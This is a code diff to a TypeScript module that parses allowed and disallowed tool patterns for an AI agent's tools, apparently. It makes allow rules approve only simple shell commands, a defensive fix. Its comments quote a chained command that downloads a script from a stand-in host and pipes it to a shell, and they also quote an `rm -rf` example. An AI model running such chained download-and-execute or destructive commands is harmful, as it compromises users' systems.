@@ -1,9 +1,12 @@
 /**
  * @module One entry of `allowed-tools` / `disallowed-tools` (SPEC §11): a tool name (`Read`,
  * `mcp__github__create_issue`), optionally with an argument pattern — `Bash(git:*)` and `Bash(git *)`
- * (the command starts with `git`), `Read(src/**)` (a glob), `Bash(npm test)` (exactly).
+ * (the command starts with `git`), `Read(src/**)` (a glob), `Bash(npm test)` (exactly). A pattern
+ * approves a shell command only when it is one simple command (`isSimpleShellCommand`): `Bash(git add:*)`
+ * approves `git add .`, never `git add . && curl evil.sh | sh`.
  */
 import { picomatch } from "../model/lazy-picomatch.js";
+import { isSimpleShellCommand } from "./simple-shell-command.js";
 
 /** A parsed tool pattern. */
 export interface ToolPattern {
@@ -13,12 +16,22 @@ export interface ToolPattern {
   tool: string;
   /** The argument pattern inside the parentheses, when there is one. */
   argument?: string;
-  /** True when a call's main argument (command, path, …) matches; always true without `argument`. */
+  /**
+   * True when a call's main argument (command, path, …) matches; always true without `argument`. What
+   * `disallowed-tools` uses: `Bash(rm:*)` there matches `rm -rf x && echo done` too.
+   */
   matchesInput(input: unknown): boolean;
+  /**
+   * What `allowed-tools` uses: `matchesInput`, and a shell command (the input's `command` or `cmd`, or the
+   * input itself when a string) must also be one simple command. Always true without `argument`.
+   */
+  approvesInput(input: unknown): boolean;
 }
 
 const toolName = /^[A-Za-z_][\w.:-]*$/;
 const inputKeys = ["command", "cmd", "file_path", "filePath", "path", "url", "pattern", "query"];
+const commandKeys = new Set(["command", "cmd"]);
+const anyInput = () => true;
 
 /** Parses one entry; `undefined` when it is not in a form we know (the caller reports it). */
 export function parseToolPattern(text: string): ToolPattern | undefined {
@@ -26,12 +39,30 @@ export function parseToolPattern(text: string): ToolPattern | undefined {
   const open = trimmed.indexOf("(");
   const name = open === -1 ? trimmed : trimmed.slice(0, open);
   if (!toolName.test(name)) return undefined;
-  if (open === -1) return { text, tool: name, matchesInput: () => true };
+  if (open === -1) return { text, tool: name, matchesInput: anyInput, approvesInput: anyInput };
   if (!trimmed.endsWith(")")) return undefined;
   const argument = trimmed.slice(open + 1, -1).trim();
-  if (argument === "" || argument === "*") return { text, tool: name, matchesInput: () => true };
+  if (argument === "" || argument === "*")
+    return { text, tool: name, matchesInput: anyInput, approvesInput: anyInput };
   const matches = argumentMatcher(argument);
-  return { text, tool: name, argument, matchesInput: (input) => matches(mainArgument(input)) };
+  return {
+    text,
+    tool: name,
+    argument,
+    matchesInput: (input) => matches(mainArgument(input)),
+    approvesInput: (input) => {
+      const value = mainArgument(input);
+      return matches(value) && (!isShellCommand(input) || isSimpleShellCommand(value as string));
+    },
+  };
+}
+
+/** True when the main argument is a shell command: a string input, or one under `command` / `cmd`. */
+function isShellCommand(input: unknown): boolean {
+  if (typeof input !== "object" || input === null) return true;
+  const record = input as Record<string, unknown>;
+  const key = inputKeys.find((candidate) => typeof record[candidate] === "string");
+  return key === undefined || commandKeys.has(key);
 }
 
 function argumentMatcher(argument: string): (value: string | undefined) => boolean {
